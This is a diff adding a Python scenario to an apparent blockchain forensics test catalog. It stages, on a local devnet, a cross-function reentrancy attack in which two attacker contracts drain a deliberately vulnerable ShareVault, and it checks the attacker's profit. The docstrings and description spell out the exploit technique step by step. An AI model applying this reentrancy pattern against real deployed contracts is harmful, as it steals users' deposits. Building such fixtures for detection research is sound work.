@@ -1,0 +1,82 @@
+"""Scenario `reentrancy-vault-shares`: VaultRaiders drain ShareVault by cross-function reentrancy.
+
+Five users put 22 ETH into ShareVault and use it (a share transfer, a redemption) until it holds
+20 ETH. The attacker EOA (mallory) deploys a pair of VaultRaider contracts, each the other's
+partner, then calls `raid{value: 5 ether}()` on the leader: while `redeemAll` pays a raider, the
+raider moves the shares being paid for to its partner with `transfer`, and the partner redeems them
+again; four hand-overs later the vault is empty and the leader pays mallory.
+"""
+
+from __future__ import annotations
+
+from timemachine.catalog.builder import ETHER, create_address
+from timemachine.catalog.devnet import actor_address
+from timemachine.catalog.models import ScenarioRecord
+from timemachine.catalog.scenarios.base import Scenario
+from timemachine.catalog.scenarios.contract import deploy
+from timemachine.catalog.scenarios.world import World
+from timemachine.errors import DevnetBuildError
+
+ATTACKER = "mallory"
+STAKE = 5 * ETHER
+EXPLOIT_GAS = 3_000_000
+
+
+async def stage(world: World) -> ScenarioRecord:
+    """Deploy and use the vault, deploy the raider pair, raid; verify the exact loss and payout."""
+    chain, a = world.chain, actor_address
+    vault = await deploy(chain, "deployer", "ShareVault")
+    await chain.mine()
+    for user, amount in {"alice": 6, "bob": 4, "carol": 5, "dave": 5}.items():
+        await vault.send(user, "deposit", value=amount * ETHER)
+    await chain.mine()
+    await vault.send("alice", "transfer", a("erin"), 2 * ETHER)
+    await vault.send("erin", "redeemAll")
+    await vault.send("frank", "deposit", value=2 * ETHER)
+    await chain.mine()
+
+    nonce = chain.next_nonce(ATTACKER)
+    leader_address = create_address(a(ATTACKER), nonce)
+    partner_address = create_address(a(ATTACKER), nonce + 1)
+    leader = await deploy(chain, ATTACKER, "VaultRaider", vault.address, partner_address)
+    partner = await deploy(
+        chain, ATTACKER, "VaultRaider", vault.address, leader_address, name="VaultRaiderPartner"
+    )
+    if (leader.address, partner.address) != (leader_address, partner_address):
+        raise DevnetBuildError("the VaultRaider pair did not land at the predicted addresses")
+    await chain.mine()
+
+    deposits = await chain.balance(vault.address)
+    before = await chain.balance(a(ATTACKER))
+    exploit_tx = await leader.send(ATTACKER, "raid", value=STAKE, gas=EXPLOIT_GAS)
+    block = await chain.mine()
+    fee = block.fee(exploit_tx)
+    profit = await chain.balance(a(ATTACKER)) - before
+    left = await chain.balance(vault.address)
+    if deposits != 20 * ETHER or left != 0 or profit != deposits - fee:
+        raise DevnetBuildError(
+            f"cross-function reentrancy {exploit_tx} misbehaved: vault held {deposits} wei, kept "
+            f"{left}, attacker profit {profit} wei (fee {fee})"
+        )
+    return SCENARIO.record(
+        exploit_tx=exploit_tx,
+        block_number=block.number,
+        attacker=a(ATTACKER),
+        attacker_contracts=[leader.address, partner.address],
+        victims=[vault.address],
+        expected_loss_wei=deposits,
+    )
+
+
+SCENARIO = Scenario(
+    id="reentrancy-vault-shares",
+    title="ShareVault drained by cross-function reentrancy",
+    description=(
+        "ShareVault.redeemAll pays the caller before zeroing its shares, and ShareVault.transfer "
+        "can still move them. Two VaultRaider contracts pass a 5 ETH stake's shares back and "
+        "forth from their receive hooks while each payment is in flight, redeeming them five "
+        "times, until all users' deposits (20 ETH) and the stake are paid to the attacker EOA."
+    ),
+    vulnerability_class="reentrancy",
+    stage=stage,
+)
